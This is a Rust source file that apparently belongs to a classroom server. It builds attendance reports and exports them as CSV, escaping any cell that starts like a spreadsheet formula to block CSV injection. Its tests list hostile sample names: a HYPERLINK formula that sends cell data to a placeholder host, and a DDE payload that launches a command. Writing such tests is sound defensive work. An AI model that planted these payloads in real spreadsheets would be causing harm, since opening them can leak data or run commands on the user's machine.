//! The attendance report: one row per person (reconnects merged), the roster's absentees,
//! and its CSV form for spreadsheets.

use classroom_protocol::{AttendanceReport, AttendanceRow, Role};

use crate::Millis;
use crate::class::Class;

impl Class {
    /// The report so far: everyone ever let in, in order of first arrival.
    pub(crate) fn report(&self, now: Millis) -> AttendanceReport {
        let rows = self
            .members
            .iter()
            .flatten()
            // A staff member's companion session is part of them, not a person who came.
            .filter(|m| !m.is_companion())
            .filter_map(|m| {
                let first_join_ms = m.att.first_join?;
                Some(AttendanceRow {
                    identity: m.identity.to_string(),
                    name: m.name.to_string(),
                    role: m.role,
                    roster_name: m
                        .roster
                        .and_then(|i| self.roster.name(i))
                        .map(str::to_owned),
                    first_join_ms,
                    last_leave_ms: if m.present() { None } else { m.att.last_leave },
                    minutes: minutes(m.connected_ms(now)),
                    reconnects: m.att.reconnects,
                    roll_calls_answered: m.att.roll_calls_answered,
                    roll_calls: m.att.roll_calls,
                    hands_raised: m.att.hands_raised,
                    chat_messages: m.att.chat_messages,
                    quiz_correct: m.att.quiz_correct,
                    quiz_questions: m.att.quiz_questions,
                })
            })
            .collect();
        AttendanceReport {
            room: self.room.clone(),
            made_ms: now,
            rows,
            absent: self.roster.absent(),
        }
    }
}

/// Milliseconds as minutes to a tenth.
fn minutes(ms: u64) -> f64 {
    (ms as f64 / 6_000.0).round() / 10.0
}

/// Column names of [`report_csv`].
pub const REPORT_COLUMNS: [&str; 15] = [
    "status",
    "identity",
    "name",
    "role",
    "roster_name",
    "first_join_utc",
    "last_leave_utc",
    "minutes",
    "reconnects",
    "roll_calls_answered",
    "roll_calls",
    "hands_raised",
    "chat_messages",
    "quiz_correct",
    "quiz_questions",
];

fn role_word(role: Role) -> &'static str {
    match role {
        Role::Teacher => "teacher",
        Role::Assistant => "assistant",
        Role::Student => "student",
        Role::Observer => "observer",
        _ => "other",
    }
}

/// The words and clock an attendance file is written in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReportStyle {
    /// A name for each of [`REPORT_COLUMNS`], in that order.
    pub columns: [String; REPORT_COLUMNS.len()],
    /// The status of someone still in the class.
    pub present: String,
    /// The status of someone who came and left.
    pub left: String,
    /// The status of a roster entry nobody came as.
    pub absent: String,
    /// The role words.
    pub teacher: String,
    /// An assistant.
    pub assistant: String,
    /// A student.
    pub student: String,
    /// An observer.
    pub observer: String,
    /// Any other role.
    pub other: String,
    /// `Some(minutes east of UTC)`: times are local times there, `YYYY-MM-DD HH:MM:SS`
    /// (which spreadsheets read as a date and time; the column names say the zone); `None`:
    /// UTC in ISO 8601 (`2023-11-14T22:13:20Z`).
    pub utc_offset_minutes: Option<i32>,
}

impl Default for ReportStyle {
    /// The words of [`report_csv`]: [`REPORT_COLUMNS`], lower-case English, UTC.
    fn default() -> Self {
        Self {
            columns: REPORT_COLUMNS.map(str::to_owned),
            present: "present".into(),
            left: "left".into(),
            absent: "absent".into(),
            teacher: role_word(Role::Teacher).into(),
            assistant: role_word(Role::Assistant).into(),
            student: role_word(Role::Student).into(),
            observer: role_word(Role::Observer).into(),
            other: "other".into(),
            utc_offset_minutes: None,
        }
    }
}

impl ReportStyle {
    fn role(&self, role: Role) -> &str {
        match role {
            Role::Teacher => &self.teacher,
            Role::Assistant => &self.assistant,
            Role::Student => &self.student,
            Role::Observer => &self.observer,
            _ => &self.other,
        }
    }

    fn time(&self, ms: Millis) -> String {
        match self.utc_offset_minutes {
            None => utc(ms),
            Some(offset) => local(ms, offset),
        }
    }
}

/// A report as CSV: a header row ([`REPORT_COLUMNS`]), one row per person (`status`
/// `present` or `left`), and one per absent roster entry (`absent`, with the roster's
/// name and id). Times are UTC, ISO 8601. The server's files and tools read these words;
/// a teacher's own copy is [`report_csv_styled`] in their language and time zone.
///
/// Names and ids are the students' own words, and teachers open the file in Excel, WPS or
/// LibreOffice: a text field that starts like a formula (`=`, `+`, `-`, `@`, a tab or a
/// carriage return, or their full-width forms) is written with a `'` before it, so a name
/// such as `=HYPERLINK(...)` is shown as text and never evaluated (CSV injection).
pub fn report_csv(report: &AttendanceReport) -> String {
    report_csv_styled(report, &ReportStyle::default())
}

/// [`report_csv`] in `style`'s words and clock.
pub fn report_csv_styled(report: &AttendanceReport, style: &ReportStyle) -> String {
    // Writing into memory cannot fail; an error would only mean a bug in the csv crate.
    write_csv(report, style).unwrap_or_default()
}

/// [`report_csv`] as a file's bytes (see [`csv_file_bytes`]).
pub fn report_csv_file(report: &AttendanceReport) -> Vec<u8> {
    csv_file_bytes(&report_csv(report))
}

/// CSV text as a file's bytes: UTF-8 with a byte-order mark, which Excel needs to read
/// UTF-8 (without one it reads the system's code page, and Chinese names come out garbled).
pub fn csv_file_bytes(csv: &str) -> Vec<u8> {
    let mut bytes = "\u{feff}".as_bytes().to_vec();
    bytes.extend_from_slice(csv.as_bytes());
    bytes
}

/// Characters a spreadsheet reads as the start of a formula at a cell's beginning.
const FORMULA_STARTS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// A text field as it is safe to open in a spreadsheet: with a `'` before a formula's start.
pub(crate) fn text_cell(text: &str) -> String {
    if text.starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn write_csv(
    report: &AttendanceReport,
    style: &ReportStyle,
) -> Result<String, Box<dyn std::error::Error>> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(style.columns.iter().map(|c| text_cell(c)))?;
    for r in &report.rows {
        let status = if r.last_leave_ms.is_some() {
            &style.left
        } else {
            &style.present
        };
        w.write_record([
            text_cell(status),
            text_cell(&r.identity),
            text_cell(&r.name),
            text_cell(style.role(r.role)),
            text_cell(r.roster_name.as_deref().unwrap_or_default()),
            style.time(r.first_join_ms),
            r.last_leave_ms.map(|ms| style.time(ms)).unwrap_or_default(),
            format!("{:.1}", r.minutes),
            r.reconnects.to_string(),
            r.roll_calls_answered.to_string(),
            r.roll_calls.to_string(),
            r.hands_raised.to_string(),
            r.chat_messages.to_string(),
            r.quiz_correct.to_string(),
            r.quiz_questions.to_string(),
        ])?;
    }
    for a in &report.absent {
        let mut row = vec![String::new(); REPORT_COLUMNS.len()];
        row[0] = text_cell(&style.absent);
        row[1] = text_cell(a.id.as_deref().unwrap_or_default());
        row[2] = text_cell(&a.name);
        row[3] = text_cell(&style.student);
        row[4] = text_cell(&a.name);
        w.write_record(&row)?;
    }
    let bytes = w.into_inner().map_err(|e| e.to_string())?;
    Ok(String::from_utf8(bytes)?)
}

/// Unix milliseconds as `YYYY-MM-DDTHH:MM:SSZ`.
pub(crate) fn utc(ms: Millis) -> String {
    format!("{}Z", date_time(ms, 0, 'T'))
}

/// Unix milliseconds as the local time `offset_minutes` east of UTC, `YYYY-MM-DD HH:MM:SS`.
pub(crate) fn local(ms: Millis, offset_minutes: i32) -> String {
    date_time(ms, offset_minutes, ' ')
}

/// Unix milliseconds `offset_minutes` east of UTC as `YYYY-MM-DD`, `between`, `HH:MM:SS`.
fn date_time(ms: Millis, offset_minutes: i32, between: char) -> String {
    // u64 milliseconds are at most ~1.8e16 seconds: an i64 holds them and any offset.
    let secs = (ms / 1000) as i64 + i64::from(offset_minutes) * 60;
    let (days, rest) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    let (y, m, d) = civil_from_days(days);
    format!(
        "{y:04}-{m:02}-{d:02}{between}{:02}:{:02}:{:02}",
        rest / 3600,
        rest % 3600 / 60,
        rest % 60
    )
}

/// Days since 1970-01-01 to a proleptic Gregorian date (Howard Hinnant's algorithm).
fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;
    use classroom_protocol::RosterEntry;

    /// A row of someone who joined at `first_join_ms` and did nothing counted since.
    fn person(identity: &str, name: &str, role: Role, first_join_ms: Millis) -> AttendanceRow {
        AttendanceRow {
            identity: identity.into(),
            name: name.into(),
            role,
            roster_name: None,
            first_join_ms,
            last_leave_ms: None,
            minutes: 10.0,
            reconnects: 0,
            roll_calls_answered: 0,
            roll_calls: 0,
            hands_raised: 0,
            chat_messages: 0,
            quiz_correct: 0,
            quiz_questions: 0,
        }
    }

    #[test]
    fn utc_dates() {
        assert_eq!(utc(0), "1970-01-01T00:00:00Z");
        assert_eq!(utc(951_782_400_000), "2000-02-29T00:00:00Z");
        assert_eq!(utc(1_700_000_000_123), "2023-11-14T22:13:20Z");
        assert_eq!(utc(4_107_542_399_000), "2100-02-28T23:59:59Z");
    }

    #[test]
    fn minutes_round_to_a_tenth() {
        assert_eq!(minutes(0), 0.0);
        assert_eq!(minutes(90_000), 1.5);
        assert_eq!(minutes(62_999), 1.0);
    }

    #[test]
    fn names_that_start_like_a_formula_are_written_as_text() {
        let row = |name: &str| AttendanceRow {
            roster_name: Some(name.into()),
            minutes: 1.0,
            ..person(&format!("@{name}"), name, Role::Student, 0)
        };
        let hostile = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1,1)",
            "\t=1",
            "\u{ff1d}1+1",
        ];
        let report = AttendanceReport {
            room: "r".into(),
            made_ms: 0,
            rows: hostile.iter().map(|n| row(n)).collect(),
            absent: vec![RosterEntry {
                name: "=1+1".into(),
                id: Some("-5".into()),
            }],
        };
        let text = report_csv(&report);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        assert_eq!(rows.len(), hostile.len() + 1);
        for (got, name) in rows.iter().zip(hostile) {
            assert_eq!(&got[1], format!("'@{name}"));
            assert_eq!(&got[2], format!("'{name}"));
            assert_eq!(&got[4], format!("'{name}"));
            // Numbers stay numbers.
            assert_eq!(&got[7], "1.0");
        }
        let absent = &rows[hostile.len()];
        assert_eq!(
            (&absent[1], &absent[2], &absent[4]),
            ("'-5", "'=1+1", "'=1+1")
        );
        // Plain names are untouched, and no field of any row starts like a formula.
        assert_eq!(text_cell("Ana Li"), "Ana Li");
        assert_eq!(text_cell("张三"), "张三");
        assert_eq!(text_cell("Ana-Li=1"), "Ana-Li=1");
        for record in &rows {
            for field in record {
                assert!(!field.starts_with(FORMULA_STARTS), "{field:?}");
            }
        }
    }

    #[test]
    fn a_teachers_copy_is_in_their_words_and_time_zone() {
        assert_eq!(local(1_700_000_000_123, 480), "2023-11-15 06:13:20");
        assert_eq!(local(1_700_000_000_123, -210), "2023-11-14 18:43:20");
        assert_eq!(local(0, -60), "1969-12-31 23:00:00");
        let style = ReportStyle {
            columns: std::array::from_fn(|i| format!("列{i}")),
            present: "在课堂".into(),
            left: "已离开".into(),
            absent: "缺席".into(),
            teacher: "老师".into(),
            assistant: "助教".into(),
            student: "学生".into(),
            observer: "旁听".into(),
            other: "其他".into(),
            utc_offset_minutes: Some(480),
        };
        let report = AttendanceReport {
            room: "r".into(),
            made_ms: 0,
            rows: vec![AttendanceRow {
                last_leave_ms: Some(1_700_000_600_000),
                ..person("t", "王老师", Role::Teacher, 1_700_000_000_000)
            }],
            absent: vec![RosterEntry {
                name: "张三".into(),
                id: None,
            }],
        };
        let text = report_csv_styled(&report, &style);
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines[0].starts_with("列0,列1,列2"), "{text}");
        assert!(
            lines[1]
                .starts_with("已离开,t,王老师,老师,,2023-11-15 06:13:20,2023-11-15 06:23:20,10.0,"),
            "{text}"
        );
        assert!(lines[2].starts_with("缺席,,张三,学生,张三,,"), "{text}");
        // The default is what the server writes.
        assert_eq!(
            report_csv(&report),
            report_csv_styled(&report, &ReportStyle::default())
        );
        assert!(report_csv(&report).contains("left,t,王老师,teacher,,2023-11-14T22:13:20Z"));
    }

    #[test]
    fn the_file_has_a_byte_order_mark_for_excel_and_reads_back() {
        let report = AttendanceReport {
            room: "r".into(),
            made_ms: 0,
            rows: vec![],
            absent: vec![RosterEntry {
                name: "张三".into(),
                id: Some("20230101".into()),
            }],
        };
        let bytes = report_csv_file(&report);
        assert!(bytes.starts_with(b"\xEF\xBB\xBFstatus,"));
        assert_eq!(&bytes[3..], report_csv(&report).as_bytes());
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        assert_eq!(&reader.headers().expect("header")[0], "status");
        let row = reader.records().next().expect("a row").expect("row");
        assert_eq!((&row[0], &row[1], &row[2]), ("absent", "20230101", "张三"));
    }

    #[test]
    fn csv_round_trips() {
        let report = AttendanceReport {
            room: "math".into(),
            made_ms: 1_700_000_600_000,
            rows: vec![
                AttendanceRow {
                    identity: "s-1".into(),
                    name: "Li, \"Ana\"".into(),
                    role: Role::Student,
                    roster_name: Some("Ana Li".into()),
                    first_join_ms: 1_700_000_000_000,
                    last_leave_ms: Some(1_700_000_540_000),
                    minutes: 8.5,
                    reconnects: 2,
                    roll_calls_answered: 1,
                    roll_calls: 2,
                    hands_raised: 3,
                    chat_messages: 4,
                    quiz_correct: 1,
                    quiz_questions: 2,
                },
                person("t", "Ms. Rivera", Role::Teacher, 1_700_000_000_000),
            ],
            absent: vec![RosterEntry {
                name: "Ben Okafor".into(),
                id: Some("s-2".into()),
            }],
        };
        let text = report_csv(&report);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .expect("header")
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(header, REPORT_COLUMNS);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        assert_eq!(rows.len(), 3);
        let col = |name: &str| {
            REPORT_COLUMNS
                .iter()
                .position(|c| *c == name)
                .expect("column")
        };
        assert_eq!(&rows[0][col("status")], "left");
        assert_eq!(&rows[0][col("name")], "Li, \"Ana\"");
        assert_eq!(&rows[0][col("roster_name")], "Ana Li");
        assert_eq!(&rows[0][col("first_join_utc")], "2023-11-14T22:13:20Z");
        assert_eq!(&rows[0][col("last_leave_utc")], "2023-11-14T22:22:20Z");
        assert_eq!(rows[0][col("minutes")].parse::<f64>().expect("number"), 8.5);
        for (name, want) in [
            ("reconnects", 2),
            ("roll_calls_answered", 1),
            ("roll_calls", 2),
            ("hands_raised", 3),
            ("chat_messages", 4),
            ("quiz_correct", 1),
            ("quiz_questions", 2),
        ] {
            assert_eq!(
                rows[0][col(name)].parse::<u32>().expect("number"),
                want,
                "{name}"
            );
        }
        assert_eq!(&rows[1][col("status")], "present");
        assert_eq!(&rows[1][col("role")], "teacher");
        assert_eq!(&rows[1][col("last_leave_utc")], "");
        assert_eq!(&rows[2][col("status")], "absent");
        assert_eq!(&rows[2][col("identity")], "s-2");
        assert_eq!(&rows[2][col("name")], "Ben Okafor");
    }
}
